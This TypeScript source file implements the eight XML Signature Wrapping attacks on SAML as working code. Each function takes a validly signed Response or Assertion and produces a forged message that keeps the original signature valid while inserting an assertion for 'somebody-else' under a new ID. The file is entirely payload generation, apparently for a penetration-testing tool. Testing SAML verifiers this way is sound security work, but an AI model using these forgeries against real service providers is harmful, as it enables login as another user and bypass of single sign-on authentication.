/**
 * The eight classic ways to wrap a signed element, so that the signature stays true of what nobody reads (Somorovsky and
 * others, "On Breaking SAML", 2012; numbered as SAML Raider does). Each takes an honestly signed message and what is
 * signed in it, and puts somebody else in the place that a careless reader looks at.
 */
export type Signed = 'Response' | 'Assertion'

const element = (xml: string, name: string): string => {
  const from = xml.indexOf(`<${name}`)
  const end = `</${name}>`
  return xml.slice(from, xml.lastIndexOf(end) + end.length)
}
const named = { Response: 'samlp:Response', Assertion: 'saml:Assertion' } as const
const ofSigned = (xml: string, what: Signed): { whole: string; signature: string; bare: string } => {
  const whole = element(xml, named[what])
  const signature = /<Signature[\s\S]*?<\/Signature>/.exec(whole)![0]
  return { whole, signature, bare: whole.replace(signature, '') }
}

/** The same about somebody else, under another id. */
const evil = (xml: string): string =>
  xml.replace(/ ID="_/, ' ID="_evil').replace(/(<saml:NameID[^>]*>)[^<]*/, '$1somebody-else')
const into = (parent: string, child: string, before: string): string =>
  parent.slice(0, parent.lastIndexOf(before)) + child + parent.slice(parent.lastIndexOf(before))
/** A signature that holds something more, in an Object. */
const holding = (signature: string, more: string): string =>
  signature.replace(/<\/Signature>$/, `<Object>${more}</Object></Signature>`)

type Wrap = (xml: string) => string

const responses: Readonly<Record<string, Wrap>> = {
  'one: the response inside its own signature, in an evil response': (xml) => {
    const { whole, signature, bare } = ofSigned(xml, 'Response')
    return evil(whole).replace(signature, holding(signature, bare))
  },
  'two: the response before its signature, in an evil response': (xml) => {
    const { whole, signature, bare } = ofSigned(xml, 'Response')
    return evil(whole).replace(signature, bare + signature)
  },
}

const assertions: Readonly<Record<string, Wrap>> = {
  'three: an evil assertion before the signed one': (xml) => {
    const { whole, bare } = ofSigned(xml, 'Assertion')
    return xml.replace(whole, evil(bare) + whole)
  },
  'four: the signed assertion inside an evil one': (xml) => {
    const { whole, bare } = ofSigned(xml, 'Assertion')
    return xml.replace(whole, into(evil(bare), whole, '</saml:Assertion>'))
  },
  'five: an evil assertion with the signature, what was signed at the end': (xml) => {
    const { whole, bare } = ofSigned(xml, 'Assertion')
    return xml.replace(whole, evil(whole) + bare)
  },
  'six: an evil assertion, what was signed inside its signature': (xml) => {
    const { whole, signature, bare } = ofSigned(xml, 'Assertion')
    return xml.replace(whole, evil(whole).replace(signature, signature.replace(/<\/Signature>$/, `${bare}$&`)))
  },
  'seven: the signed assertion in an extension, an evil one beside it': (xml) => {
    const { whole, bare } = ofSigned(xml, 'Assertion')
    return xml.replace(whole, `<samlp:Extensions>${whole}</samlp:Extensions>${evil(bare)}`)
  },
  'eight: an evil assertion, what was signed in an object of its signature': (xml) => {
    const { whole, signature, bare } = ofSigned(xml, 'Assertion')
    return xml.replace(whole, evil(whole).replace(signature, holding(signature, bare)))
  },
}

/** The wrappings that fit what is signed, by name. */
export const wrappings = (signed: readonly Signed[]): Readonly<Record<string, Wrap>> => ({
  ...(signed.includes('Response') ? responses : {}),
  ...(signed.includes('Assertion') ? assertions : {}),
})
